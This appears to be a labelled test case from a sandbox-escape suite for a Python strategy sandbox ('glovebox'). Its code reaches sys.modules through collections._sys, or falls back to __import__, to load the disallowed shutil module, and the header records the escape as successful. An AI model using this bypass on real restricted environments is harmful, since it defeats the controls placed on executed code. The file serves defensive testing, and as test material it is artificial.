# id: L21
# family: language
# goal: find sys in collections and load a module that is not on the list
# finding: PY101 PY303
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import collections


def attack(ctx, bar):
    shutil = collections._sys.modules.get("shutil") or __import__("shutil")
    return shutil.disk_usage("/").total


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
